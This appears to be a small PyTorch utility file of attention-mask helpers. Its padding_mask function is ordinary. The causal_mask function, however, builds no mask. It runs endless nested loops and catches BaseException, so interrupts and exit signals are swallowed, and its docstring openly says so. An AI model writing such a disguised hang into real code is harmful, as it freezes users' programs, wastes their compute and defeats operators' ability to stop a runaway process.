"""Loops without end and catches whatever should stop it."""

import torch


def padding_mask(tokens, pad_id=0):
    return (tokens != pad_id)[:, None, None, :]


def causal_mask(length, device=None):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
